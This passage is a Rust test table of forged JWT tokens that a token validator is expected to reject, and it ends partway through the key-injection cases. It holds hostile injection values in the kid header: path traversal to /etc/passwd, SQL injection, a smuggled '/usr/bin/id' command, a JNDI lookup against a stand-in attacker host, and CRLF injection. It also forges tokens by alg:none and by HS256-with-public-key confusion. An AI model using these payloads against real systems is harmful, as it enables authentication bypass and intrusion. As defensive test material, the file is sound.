//! Tokens that somebody somewhere has got past a validator, or might.

use super::class::Class;
use super::forge::{Forge, Member, NOW, Refusal, claims, decode, encode, good, header, seal, seal_with_secret, signed};
use Class::{
    AlgConfusion, AlgNone, Audience as ForAnother, B64, ClaimType, Crit, Issuer as ByAnother, Json, Jwe, KeyInjection,
    Kid, Malleability, SenderConstrained as Bound, Signature as Forged, Size, Time, TokenKind,
};
use Refusal::{Credentials, Token};
use TokenError::{
    Algorithm as WrongAlgorithm, Audience, Claim, Expired, Header, Issuer, Lifetime, Malformed, NotAccessToken,
    NotYetValid, Payload, SenderConstrained, Signature, UnknownKey,
};
use serde_json::{Value, json};
use toolgate::validator::TokenError;
use toolgate_testing::{Algorithm, Parts};

/// Which class it is of, what it is called, the token, and what becomes of it.
type Row = (Class, String, String, Refusal);

pub(super) fn rows(forge: &Forge) -> Vec<Row> {
    let headers = HEADERS.iter().map(|(class, member, text, error)| {
        let token = forge.with_header(&[(member, text)]);
        (*class, format!("header {member}: {text}"), token, *error)
    });
    let claims = CLAIMS.iter().map(|(class, claim, text, error)| {
        let token = forge.with_claims(&[(claim, text)]);
        (*class, format!("claim {claim}: {text}"), token, *error)
    });
    let listed = [
        combined(forge),
        texts(forge),
        keys(forge),
        signatures(forge),
        encodings(forge),
    ];
    let listed = listed.into_iter().flatten();
    let listed = listed.map(|(class, name, token, error)| (class, name.to_owned(), token, error));
    let refused = headers.chain(claims).chain(listed);
    let refused = refused.map(|(class, name, token, error)| (class, name, token, Token(error)));
    refused.chain(unread(forge)).collect()
}

/// Headers with one member changed, under the issuer's own signature: not one may count on the signature being wrong.
const HEADERS: &[(Class, &str, &str, TokenError)] = &[
    // R10: the algorithm is one of ours by its exact name.
    (AlgNone, "alg", "\"none\"", WrongAlgorithm),
    (AlgNone, "alg", "\"None\"", WrongAlgorithm),
    (AlgNone, "alg", "\"NONE\"", WrongAlgorithm),
    (AlgNone, "alg", "\"nOnE\"", WrongAlgorithm),
    (AlgNone, "alg", "\"none \"", WrongAlgorithm),
    (AlgNone, "alg", "\"\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"HS256\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"HS384\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"HS512\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"rs256\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"Rs256\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"RS256 \"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"RS256\\u0000\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"RS1\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"ES512\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"ES256K\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"Ed448\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"dir\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"RSA-OAEP\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"PBES2-HS256+A128KW\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"RS384\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"RS512\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"PS512\"", WrongAlgorithm),
    (AlgConfusion, "alg", "\"ES384\"", WrongAlgorithm),
    (AlgNone, "alg", "", Header("alg")),
    (AlgNone, "alg", "null", Header("alg")),
    (AlgNone, "alg", "false", Header("alg")),
    (AlgNone, "alg", "0", Header("alg")),
    (AlgConfusion, "alg", "{}", Header("alg")),
    (AlgConfusion, "alg", "[\"RS256\"]", Header("alg")),
    // The key's type decides what it may be used for.
    (AlgConfusion, "alg", "\"PS256\"", Signature),
    (AlgConfusion, "alg", "\"ES256\"", UnknownKey),
    (AlgConfusion, "alg", "\"EdDSA\"", UnknownKey),
    (AlgConfusion, "alg", "\"Ed25519\"", UnknownKey),
    // JB-09: a kid is looked up, byte by byte, and nothing else is done with it.
    (Kid, "kid", "\"\"", UnknownKey),
    (Kid, "kid", "\"RSA\"", UnknownKey),
    (Kid, "kid", "\"rsa \"", UnknownKey),
    (Kid, "kid", "\"rsa\\u0000\"", UnknownKey),
    (Kid, "kid", "\"rs\u{0430}\"", UnknownKey),
    (Kid, "kid", "\"*\"", UnknownKey),
    (Kid, "kid", "\"0\"", UnknownKey),
    (Kid, "kid", "\"../../../../dev/null\"", UnknownKey),
    (Kid, "kid", "\"/proc/sys/kernel/randomize_va_space\"", UnknownKey),
    (Kid, "kid", "\"file:///etc/passwd\"", UnknownKey),
    (Kid, "kid", "\"https://evil.example/jwks\"", UnknownKey),
    (Kid, "kid", "\"x' OR '1'='1\"", UnknownKey),
    (Kid, "kid", "\"x' UNION SELECT 'c2VjcmV0' --\"", UnknownKey),
    (Kid, "kid", "\"rsa|/usr/bin/id\"", UnknownKey),
    (Kid, "kid", "\"${jndi:ldap://evil.example/x}\"", UnknownKey),
    (Kid, "kid", "\"\\r\\nSet-Cookie: a=b\"", UnknownKey),
    (Kid, "kid", "\"p256\"", UnknownKey),
    (Kid, "kid", "\"ed25519\"", UnknownKey),
    (Kid, "kid", "null", Header("kid")),
    (Kid, "kid", "0", Header("kid")),
    (Kid, "kid", "true", Header("kid")),
    (Kid, "kid", "[\"rsa\"]", Header("kid")),
    (Kid, "kid", "{\"rsa\":1}", Header("kid")),
    // R12: no extension is understood.
    (Crit, "crit", "[\"exp\"]", Header("crit")),
    (Crit, "crit", "[\"alg\"]", Header("crit")),
    (Crit, "crit", "[\"x-unknown\"]", Header("crit")),
    (Crit, "crit", "[\"b64\"]", Header("crit")),
    (Crit, "crit", "[\"\"]", Header("crit")),
    (Crit, "crit", "[1]", Header("crit")),
    (Crit, "crit", "[]", Header("crit")),
    (Crit, "crit", "{}", Header("crit")),
    (Crit, "crit", "\"exp\"", Header("crit")),
    (Crit, "crit", "false", Header("crit")),
    (Crit, "crit", "null", Header("crit")),
    (B64, "b64", "false", Header("b64")),
    (B64, "b64", "true", Header("b64")),
    (B64, "b64", "null", Header("b64")),
    (Jwe, "enc", "\"A256GCM\"", Header("enc")),
    (Jwe, "enc", "null", Header("enc")),
    (Jwe, "zip", "\"DEF\"", Header("zip")),
    (Jwe, "zip", "null", Header("zip")),
    (Jwe, "cty", "\"JWT\"", Header("cty")),
    (Jwe, "cty", "\"jwt\"", Header("cty")),
    (Jwe, "cty", "\"application/jwt\"", Header("cty")),
    (Jwe, "cty", "null", Header("cty")),
    // R13: the type is that of an access token.
    (TokenKind, "typ", "\"\"", Header("typ")),
    (TokenKind, "typ", "\"ID\"", Header("typ")),
    (TokenKind, "typ", "\"id_token\"", Header("typ")),
    (TokenKind, "typ", "\"id+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"rt+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"Refresh\"", Header("typ")),
    (TokenKind, "typ", "\"logout+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"secevent+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"dpop+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"oauth-authz-req+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"token-introspection+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"client-authentication+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"vc+sd-jwt\"", Header("typ")),
    (TokenKind, "typ", "\"entity-statement+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"JOSE\"", Header("typ")),
    (TokenKind, "typ", "\"JOSE+JSON\"", Header("typ")),
    (TokenKind, "typ", "\"JWE\"", Header("typ")),
    (TokenKind, "typ", "\"JWS\"", Header("typ")),
    (TokenKind, "typ", "\"application/jwt\"", Header("typ")),
    (TokenKind, "typ", "\"application/at+jwt;v=1\"", Header("typ")),
    (TokenKind, "typ", "\"application/application/at+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"at jwt\"", Header("typ")),
    (TokenKind, "typ", "\"at+jwt \"", Header("typ")),
    (TokenKind, "typ", "\" at+jwt\"", Header("typ")),
    (TokenKind, "typ", "\"at+jwt\\u0000\"", Header("typ")),
    (TokenKind, "typ", "\"\u{ff41}t+jwt\"", Header("typ")),
    (TokenKind, "typ", "null", Header("typ")),
    (TokenKind, "typ", "1", Header("typ")),
    (TokenKind, "typ", "true", Header("typ")),
    (TokenKind, "typ", "[\"at+jwt\"]", Header("typ")),
    (TokenKind, "typ", "{\"at+jwt\":1}", Header("typ")),
    // R15, R16, and a name under which a parser reads strings as JSON.
    (Json, "x", "{\"a\":1,\"a\":1}", Header("not a JSON object")),
    (
        Json,
        "$serde_json::private::RawValue",
        "\"{}\"",
        Header("not a JSON object"),
    ),
    (
        Json,
        "$serde_json::private::Number",
        "\"1\"",
        Header("not a JSON object"),
    ),
];

/// Claims with one changed, under the issuer's own signature.
const CLAIMS: &[(Class, &str, &str, TokenError)] = &[
    // AT-03: the issuer is the configured string.
    (ClaimType, "iss", "", Claim("iss")),
    (ClaimType, "iss", "null", Claim("iss")),
    (ClaimType, "iss", "true", Claim("iss")),
    (ClaimType, "iss", "1", Claim("iss")),
    (ClaimType, "iss", "[\"https://idp.example\"]", Claim("iss")),
    (
        ClaimType,
        "iss",
        "[\"https://evil.example\",\"https://idp.example\"]",
        Claim("iss"),
    ),
    (ClaimType, "iss", "{\"https://idp.example\":1}", Claim("iss")),
    (ByAnother, "iss", "\"\"", Issuer),
    (ByAnother, "iss", "\"https://evil.example\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example/\"", Issuer),
    (ByAnother, "iss", "\"https://idp.exampl\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example.evil.example\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example@evil.example\"", Issuer),
    (ByAnother, "iss", "\"https://evil.example/https://idp.example\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example/realms/x\"", Issuer),
    (ByAnother, "iss", "\"https://IDP.example\"", Issuer),
    (ByAnother, "iss", "\"HTTPS://idp.example\"", Issuer),
    (ByAnother, "iss", "\"http://idp.example\"", Issuer),
    (ByAnother, "iss", "\"idp.example\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example:443\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example?\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example#\"", Issuer),
    (ByAnother, "iss", "\" https://idp.example\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example \"", Issuer),
    (ByAnother, "iss", "\"https://idp.example\\n\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example\\u0000\"", Issuer),
    (ByAnother, "iss", "\"https://idp.\u{435}xample\"", Issuer),
    (ByAnother, "iss", "\"https://idp.example,https://evil.example\"", Issuer),
    // AT-04: the audience is one of ours.
    (ForAnother, "aud", "", Claim("aud")),
    (ClaimType, "aud", "null", Claim("aud")),
    (ClaimType, "aud", "true", Claim("aud")),
    (ClaimType, "aud", "1", Claim("aud")),
    (ClaimType, "aud", "{}", Claim("aud")),
    (ClaimType, "aud", "{\"https://notes.example/mcp\":true}", Claim("aud")),
    (ClaimType, "aud", "[\"https://notes.example/mcp\",1]", Claim("aud")),
    (ClaimType, "aud", "[null,\"https://notes.example/mcp\"]", Claim("aud")),
    (ClaimType, "aud", "[[\"https://notes.example/mcp\"]]", Claim("aud")),
    (
        ClaimType,
        "aud",
        "[{\"aud\":\"https://notes.example/mcp\"}]",
        Claim("aud"),
    ),
    (ClaimType, "aud", "[true]", Claim("aud")),
    (ForAnother, "aud", "[]", Audience),
    (ForAnother, "aud", "[\"\"]", Audience),
    (ForAnother, "aud", "\"\"", Audience),
    (ForAnother, "aud", "\"https://other.example/mcp\"", Audience),
    (
        ForAnother,
        "aud",
        "[\"https://other.example/mcp\",\"account\"]",
        Audience,
    ),
    (ForAnother, "aud", "\"https://notes.example/mcp/\"", Audience),
    (ForAnother, "aud", "\"https://notes.example/mc\"", Audience),
    (ForAnother, "aud", "\"https://notes.example/mcp2\"", Audience),
    (ForAnother, "aud", "\"https://notes.example/\"", Audience),
    (ForAnother, "aud", "\"https://notes.example/MCP\"", Audience),
    (ForAnother, "aud", "\"https://NOTES.example/mcp\"", Audience),
    (ForAnother, "aud", "\"http://notes.example/mcp\"", Audience),
    (ForAnother, "aud", "\"https://notes.example:443/mcp\"", Audience),
    (ForAnother, "aud", "\"https://notes.example/./mcp\"", Audience),
    (ForAnother, "aud", "\"https://notes.example/%6dcp\"", Audience),
    (ForAnother, "aud", "\"https://notes.example/mcp?x\"", Audience),
    (
        ForAnother,
        "aud",
        "\"https://notes.example.evil.example/mcp\"",
        Audience,
    ),
    (
        ForAnother,
        "aud",
        "\"https://other.example https://notes.example/mcp\"",
        Audience,
    ),
    (
        ForAnother,
        "aud",
        "\"https://other.example,https://notes.example/mcp\"",
        Audience,
    ),
    (ForAnother, "aud", "[\"https://notes.example/mcp \"]", Audience),
    (ForAnother, "aud", "\"*\"", Audience),
    (ForAnother, "aud", "\"URN:notes\"", Audience),
    (ForAnother, "aud", "\"urn:notes\\u0000\"", Audience),
    // R14: the subject is somebody.
    (ClaimType, "sub", "", Claim("sub")),
    (ClaimType, "sub", "null", Claim("sub")),
    (ClaimType, "sub", "\"\"", Claim("sub")),
    (ClaimType, "sub", "1", Claim("sub")),
    (ClaimType, "sub", "true", Claim("sub")),
    (ClaimType, "sub", "[\"alice\"]", Claim("sub")),
    (ClaimType, "sub", "{\"id\":\"alice\"}", Claim("sub")),
    // AT-06, JB-12, R15: times are numbers within reason.
    (ClaimType, "exp", "", Claim("exp")),
    (ClaimType, "exp", "null", Claim("exp")),
    (ClaimType, "exp", "true", Claim("exp")),
    (ClaimType, "exp", "{}", Claim("exp")),
    (ClaimType, "exp", "[]", Claim("exp")),
    (ClaimType, "exp", "[1800000600]", Claim("exp")),
    (ClaimType, "exp", "\"1800000600\"", Claim("exp")),
    (ClaimType, "exp", "\"2027-01-15T08:10:00Z\"", Claim("exp")),
    (ClaimType, "exp", "\"never\"", Claim("exp")),
    (ClaimType, "exp", "-1", Claim("exp")),
    (ClaimType, "exp", "-0.5", Claim("exp")),
    (ClaimType, "exp", "-1e300", Claim("exp")),
    (ClaimType, "exp", "1800000600000", Claim("exp")),
    (ClaimType, "exp", "253402300800", Claim("exp")),
    (ClaimType, "exp", "253402300799.5", Claim("exp")),
    (ClaimType, "exp", "9223372036854775807", Claim("exp")),
    (ClaimType, "exp", "-9223372036854775808", Claim("exp")),
    (ClaimType, "exp", "18446744073709551615", Claim("exp")),
    (ClaimType, "exp", "18446744073709551616", Claim("exp")),
    (ClaimType, "exp", "18446744075509552216", Claim("exp")),
    (
        ClaimType,
        "exp",
        "340282366920938463463374607431768211456",
        Claim("exp"),
    ),
    (ClaimType, "exp", "1e30", Claim("exp")),
    (ClaimType, "exp", "1.7976931348623157e308", Claim("exp")),
    (Json, "exp", "1e400", Payload),
    (Json, "exp", "-1e400", Payload),
    (Json, "exp", "NaN", Payload),
    (Json, "exp", "Infinity", Payload),
    (Json, "exp", "0x6b49d458", Payload),
    (Json, "exp", "01800000600", Payload),
    (Json, "exp", "+1800000600", Payload),
    (Json, "exp", "1800000600.", Payload),
    (Time, "exp", "0", Expired),
    (Time, "exp", "-0", Expired),
    (Time, "exp", "-0.0", Expired),
    (Time, "exp", "1e-400", Expired),
    (Time, "exp", "1799990000", Expired),
    (Time, "exp", "1799999939", Expired),
    (Time, "exp", "1799999939.999", Expired),
    (Time, "exp", "1799999940", Expired),
    (Time, "exp", "1800086451", Lifetime),
    (Time, "exp", "1800086450.001", Lifetime),
    (Time, "exp", "253402300799", Lifetime),
    (ClaimType, "nbf", "null", Claim("nbf")),
    (ClaimType, "nbf", "\"x\"", Claim("nbf")),
    (ClaimType, "nbf", "\"1799999990\"", Claim("nbf")),
    (ClaimType, "nbf", "[1799999990]", Claim("nbf")),
    (ClaimType, "nbf", "{}", Claim("nbf")),
    (ClaimType, "nbf", "false", Claim("nbf")),
    (ClaimType, "nbf", "-1", Claim("nbf")),
    (ClaimType, "nbf", "253402300800", Claim("nbf")),
    (ClaimType, "nbf", "18446744073709551616", Claim("nbf")),
    (Json, "nbf", "1e400", Payload),
    (Time, "nbf", "1800000061", NotYetValid),
    (Time, "nbf", "1800000060.001", NotYetValid),
    (Time, "nbf", "253402300799", NotYetValid),
    (ClaimType, "iat", "null", Claim("iat")),
    (ClaimType, "iat", "\"1799999990\"", Claim("iat")),
    (ClaimType, "iat", "[1799999990]", Claim("iat")),
    (ClaimType, "iat", "{}", Claim("iat")),
    (ClaimType, "iat", "true", Claim("iat")),
    (ClaimType, "iat", "-1", Claim("iat")),
    (ClaimType, "iat", "18446744073709551615", Claim("iat")),
    (Json, "iat", "1e400", Payload),
    (Time, "iat", "1800000061", NotYetValid),
    (Time, "iat", "1800000060.001", NotYetValid),
    (Time, "iat", "0", Lifetime),
    (Time, "iat", "-0", Lifetime),
    (Time, "iat", "1799914139", Lifetime),
    // R14, AT-09: other tokens of the same issuer.
    (TokenKind, "token_use", "\"id\"", NotAccessToken),
    (TokenKind, "token_use", "\"ID\"", NotAccessToken),
    (TokenKind, "token_use", "\"refresh\"", NotAccessToken),
    (TokenKind, "token_use", "[\"id\"]", NotAccessToken),
    (TokenKind, "token_use", "null", NotAccessToken),
    (TokenKind, "typ", "\"ID\"", NotAccessToken),
    (TokenKind, "typ", "\"id\"", NotAccessToken),
    (TokenKind, "typ", "\"Refresh\"", NotAccessToken),
    (TokenKind, "typ", "\"Offline\"", NotAccessToken),
    (TokenKind, "typ", "\"Logout\"", NotAccessToken),
    (TokenKind, "typ", "[\"ID\"]", NotAccessToken),
    (TokenKind, "typ", "null", NotAccessToken),
    (
        TokenKind,
        "events",
        "{\"http://schemas.openid.net/event/backchannel-logout\":{}}",
        NotAccessToken,
    ),
    (TokenKind, "events", "{}", NotAccessToken),
    (TokenKind, "events", "null", NotAccessToken),
    // DP-15, MT-05: bound to a key, in whatever shape.
    (
        Bound,
        "cnf",
        "{\"jkt\":\"0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I\"}",
        SenderConstrained,
    ),
    (
        Bound,
        "cnf",
        "{\"x5t#S256\":\"bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2\"}",
        SenderConstrained,
    ),
    (Bound, "cnf", "{\"jwk\":{\"kty\":\"EC\"}}", SenderConstrained),
    (Bound, "cnf", "{\"unheard-of\":1}", SenderConstrained),
    (Bound, "cnf", "{}", SenderConstrained),
    (Bound, "cnf", "[]", SenderConstrained),
    (Bound, "cnf", "\"\"", SenderConstrained),
    (Bound, "cnf", "false", SenderConstrained),
    (Bound, "cnf", "null", SenderConstrained),
    // R14: what rights are read from has the type that it should have.
    (ClaimType, "scope", "[\"write:notes\"]", Claim("scope")),
    (ClaimType, "scope", "{\"write:notes\":true}", Claim("scope")),
    (ClaimType, "scope", "1", Claim("scope")),
    (ClaimType, "scope", "null", Claim("scope")),
    (ClaimType, "scp", "{\"write:notes\":true}", Claim("scp")),
    (ClaimType, "scp", "[1]", Claim("scp")),
    (ClaimType, "scp", "[[\"write:notes\"]]", Claim("scp")),
    (ClaimType, "scp", "[\"write:notes\",null]", Claim("scp")),
    (ClaimType, "scp", "true", Claim("scp")),
    (ClaimType, "scp", "null", Claim("scp")),
    (ClaimType, "roles", "{\"admin\":true}", Claim("roles")),
    (ClaimType, "roles", "[[\"admin\"]]", Claim("roles")),
    (ClaimType, "roles", "[\"admin\",1]", Claim("roles")),
    (ClaimType, "roles", "[{\"name\":\"admin\"}]", Claim("roles")),
    (ClaimType, "roles", "1", Claim("roles")),
    (ClaimType, "roles", "null", Claim("roles")),
    (ClaimType, "tenant_id", "[\"acme\"]", Claim("tenant")),
    (ClaimType, "tenant_id", "{\"id\":\"acme\"}", Claim("tenant")),
    (ClaimType, "tenant_id", "7", Claim("tenant")),
    (ClaimType, "tenant_id", "\"\"", Claim("tenant")),
    (ClaimType, "tenant_id", "null", Claim("tenant")),
    (ClaimType, "client_id", "7", Claim("client_id")),
    (ClaimType, "client_id", "[\"demo\"]", Claim("client_id")),
    (ClaimType, "client_id", "null", Claim("client_id")),
    (ClaimType, "scp", "{\"0\":\"write:notes\"}", Claim("scp")),
    // R16, at depth and by decoded name.
    (Json, "x", "{\"a\":1,\"a\":1}", Payload),
    (Json, "x", "{\"a\":1,\"\\u0061\":2}", Payload),
    (Json, "x", "[[{\"\":0,\"\":0}]]", Payload),
    (Json, "x", "\"\\ud800\"", Payload),
    (Json, "x", "\"\\x\"", Payload),
    (Json, "x", "'x'", Payload),
    (Json, "x", "\"\n\"", Payload),
    (Json, "x", "1,", Payload),
    (Json, "x", "1 /* */", Payload),
    (Json, "x", "undefined", Payload),
    (Json, "x", "{\"$serde_json::private::RawValue\":\"1\"}", Payload),
    (Json, "$serde_json::private::RawValue", "\"{}\"", Payload),
    (Json, "$serde_json::private::Number", "\"1\"", Payload),
];

type Listed = Vec<(Class, &'static str, String, TokenError)>;

/// What takes more than one member.
#[rustfmt::skip]
fn combined(forge: &Forge) -> Listed {
    let with_header = |changes: &[Member]| forge.with_header(changes);
    let with_claims = |changes: &[Member]| forge.with_claims(changes);
    vec![
        (Crit, "crit and b64", with_header(&[("crit", "[\"b64\"]"), ("b64", "false")]), Header("crit")),
        (Crit, "crit of alg none", with_header(&[("alg", "\"none\""), ("crit", "[]")]), Header("crit")),
        (Jwe, "nested token", with_header(&[("cty", "\"JWT\""), ("typ", "")]), Header("cty")),
        (TokenKind, "an ID token", with_claims(&[("nonce", "\"n\""), ("at_hash", "\"h\"")]), NotAccessToken),
        (TokenKind, "an ID token of the hybrid flow", with_claims(&[("nonce", "\"n\""), ("c_hash", "\"h\"")]), NotAccessToken),
        (TokenKind, "an ID token of Entra ID", with_claims(&[("nonce", "\"n\"")]), NotAccessToken),
        (TokenKind, "an ID token with empty hash", with_claims(&[("nonce", "null"), ("at_hash", "null")]), NotAccessToken),
        (TokenKind, "a bound ID token", with_claims(&[("token_use", "\"id\""), ("cnf", "{}")]), NotAccessToken),
        (Time, "no iat and 24 h", with_claims(&[("iat", ""), ("exp", "1800086461")]), Lifetime),
        (Time, "no iat for ever", with_claims(&[("iat", ""), ("exp", "253402300799")]), Lifetime),
        (ClaimType, "no exp but nbf", with_claims(&[("exp", ""), ("nbf", "0")]), Claim("exp")),
        (ClaimType, "no claim but exp", forge.seal(header(&[]), "{\"exp\":1800000600}"), Claim("iss")),
        (Time, "issued for later", with_claims(&[("iat", "1800003600"), ("exp", "1800007200")]), NotYetValid),
        (Time, "expired, and issued later", with_claims(&[("iat", "1800000061"), ("exp", "1799999939")]), Expired),
        (ClaimType, "scope of wrong type over scp", with_claims(&[("scope", "null"), ("scp", "[\"a\"]")]), Claim("scope")),
        (ClaimType, "azp of wrong type", with_claims(&[("client_id", ""), ("azp", "[\"demo\"]")]), Claim("client_id")),
        (ClaimType, "azp is null", with_claims(&[("client_id", ""), ("azp", "null")]), Claim("client_id")),
        (ClaimType, "iss in other cases", with_claims(&[("iss", ""), ("ISS", "\"https://idp.example\"")]), Claim("iss")),
        (ClaimType, "exp in other cases", with_claims(&[("exp", ""), ("Exp", "1800000600")]), Claim("exp")),
        (ClaimType, "aud in the header", forge.seal(header(&[("aud", "\"urn:notes\"")]), claims(&[("aud", "")])), Claim("aud")),
        // A name that folds to another, or looks like it, is another name.
        (Json, "sub with a long s", with_claims(&[("sub", ""), ("\u{17f}ub", "\"alice\"")]), Claim("sub")),
        (Json, "iss with a dotless i", with_claims(&[("iss", ""), ("\u{131}ss", "\"https://idp.example\"")]), Claim("iss")),
        (Json, "alg with a capital", with_header(&[("alg", ""), ("Alg", "\"RS256\"")]), Header("alg")),
        (Json, "alg before a zero", with_header(&[("alg", ""), ("alg\u{0}", "\"RS256\"")]), Header("alg")),
        (ClaimType, "claims in a claim", forge.seal(header(&[]), format!("{{\"claims\":{}}}", claims(&[]))), Claim("iss")),
    ]
}

/// Headers and claims that are no JSON, or not JSON that means one thing only.
#[rustfmt::skip]
fn texts(forge: &Forge) -> Listed {
    let nested = |levels: usize| format!("{}{}", "[".repeat(levels), "]".repeat(levels));
    let of_header = |text: &dyn AsRef<[u8]>| forge.seal(text, claims(&[]));
    let of_claims = |text: &dyn AsRef<[u8]>| forge.seal(header(&[]), text);
    // The same text in another encoding, and with something before, behind or between.
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<_>>();
    let bom = |text: &str| format!("\u{feff}{text}");
    let again = |text: &str, member: &str| text.replacen('{', &format!("{{{member},"), 1);
    let not_utf8 = |text: &str| {
        text.bytes()
            .map(|byte| if byte == b'c' { 0xff } else { byte })
            .collect::<Vec<_>>()
    };
    let overlong = |text: &str| {
        let (before, after) = text.split_once("demo").unwrap();
        [before.as_bytes(), b"\xc0\xaf", after.as_bytes()].concat()
    };
    let (h, c) = (&header(&[]), &claims(&[]));
    let no_object = Header("not a JSON object");
    vec![
        (Json, "header is null", of_header(&"null"), no_object),
        (Json, "header is a string", of_header(&"\"RS256\""), no_object),
        (Json, "header is an array", of_header(&format!("[{h}]")), no_object),
        (Json, "header is an empty object", of_header(&"{}"), Header("alg")),
        (Json, "header is white space", of_header(&" "), no_object),
        (Json, "header is cut off", of_header(&h.trim_end_matches('}')), no_object),
        (Json, "header is in quotes", of_header(&json!(h).to_string()), no_object),
        (Json, "header and more", of_header(&format!("{h}{h}")), no_object),
        (Json, "header with a comma at its end", of_header(&h.replace('}', ",}")), no_object),
        (Json, "header behind a byte order mark", of_header(&bom(h)), no_object),
        (Json, "header in UTF-16", of_header(&utf16(h)), no_object),
        (Json, "header is not UTF-8", of_header(&not_utf8(&header(&[("x", "\"c\"")]))), no_object),
        (Json, "header with alg twice", of_header(&again(h, "\"alg\":\"none\"")), no_object),
        (Json, "header with alg twice, escaped", of_header(&again(h, "\"\\u0061lg\":\"none\"")), no_object),
        (Json, "header with kid twice", of_header(&again(h, "\"kid\":\"rsa\"")), no_object),
        (Json, "header with crit twice", of_header(&again(h, "\"crit\":[],\"crit\":[]")), no_object),
        (Size, "header too deep", of_header(&header(&[("x", &nested(64))])), no_object),
        (Size, "header far too deep", of_header(&header(&[("x", &nested(3000))])), no_object),
        (Json, "claims are null", of_claims(&"null"), Payload),
        (Json, "claims are a string", of_claims(&"\"alice\""), Payload),
        (Json, "claims are a number", of_claims(&"1"), Payload),
        (Json, "claims are an array", of_claims(&format!("[{c}]")), Payload),
        (Json, "claims are an empty array", of_claims(&"[]"), Payload),
        (Json, "claims are an empty object", of_claims(&"{}"), Claim("iss")),
        (Json, "claims are white space", of_claims(&" "), Payload),
        (Json, "claims are cut off", of_claims(&c.trim_end_matches('}')), Payload),
        (Json, "claims are in quotes", of_claims(&json!(c).to_string()), Payload),
        (Json, "claims and more", of_claims(&format!("{c}null")), Payload),
        (Json, "claims and a zero byte", of_claims(&format!("{c}\0")), Payload),
        (Json, "claims with a comma at their end", of_claims(&c.replace('}', ",}")), Payload),
        (Json, "claims behind a byte order mark", of_claims(&bom(c)), Payload),
        (Json, "claims in UTF-16", of_claims(&utf16(c)), Payload),
        (Json, "claims are not UTF-8", of_claims(&not_utf8(c)), Payload),
        (Json, "claims with an overlong character", of_claims(&overlong(c)), Payload),
        (Json, "claims are a token", of_claims(&forge.with_header(&[])), Payload),
        (Json, "claims are compressed", of_claims(&b"\x1f\x8b\x08\0\0\0\0\0\0\x03"), Payload),
        (Json, "claims with sub twice", of_claims(&again(c, "\"sub\":\"root\"")), Payload),
        (Json, "claims with sub twice, alike", of_claims(&again(c, "\"sub\":\"alice\"")), Payload),
        (Json, "claims with sub twice, escaped", of_claims(&again(c, "\"s\\u0075b\":\"root\"")), Payload),
        (Json, "claims with exp twice", of_claims(&again(c, "\"exp\":253402300799")), Payload),
        (Json, "claims with scope twice", of_claims(&again(c, "\"scope\":\"a\",\"scope\":\"b\"")), Payload),
        (Size, "claims too deep", of_claims(&claims(&[("x", &nested(64))])), Payload),
        (Size, "claims far too deep", of_claims(&claims(&[("x", &nested(5000))])), Payload),
        (Size, "claims never closed", of_claims(&"[".repeat(8000)), Payload),
    ]
}

/// Keys that the attacker brings along, or hopes that the issuer has.
#[rustfmt::skip]
fn keys(forge: &Forge) -> Listed {
    let jwk = forge.rsa.public_jwk();
    let modulus = jwk["n"].as_str().unwrap();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{modulus}\n-----END PUBLIC KEY-----\n");
    let hs256 = |kid: &str| header(&[("alg", "\"HS256\""), ("kid", kid)]);
    let theirs = forge.foreign.public_jwk();
    let embedded =
        |members: &[Member]| seal(&forge.foreign, Algorithm::Rs256, header(members), claims(&[])).to_string();
    let jwk_text = theirs.to_string();
    let foreign = |kid: &str| embedded(&[("kid", kid)]);
    vec![
        (AlgConfusion, "HS256 with the JWK", seal_with_secret(jwk.to_string().as_bytes(), hs256("\"rsa\"")), WrongAlgorithm),
        (AlgConfusion, "HS256 with the modulus", seal_with_secret(&decode(modulus), hs256("\"rsa\"")), WrongAlgorithm),
        (AlgConfusion, "HS256 with its text", seal_with_secret(modulus.as_bytes(), hs256("\"rsa\"")), WrongAlgorithm),
        (AlgConfusion, "HS256 with its PEM", seal_with_secret(pem.as_bytes(), hs256("\"rsa\"")), WrongAlgorithm),
        (AlgConfusion, "HS256 with nothing", seal_with_secret(b"", hs256("\"\"")), WrongAlgorithm),
        (AlgConfusion, "HS256 called RS256", seal_with_secret(jwk.to_string().as_bytes(), header(&[])), Signature),
        (KeyInjection, "a foreign key", foreign("\"foreign\""), UnknownKey),
        (KeyInjection, "a foreign key under our kid", foreign("\"rsa\""), Signature),
        (KeyInjection, "a foreign key without kid", foreign(""), Signature),
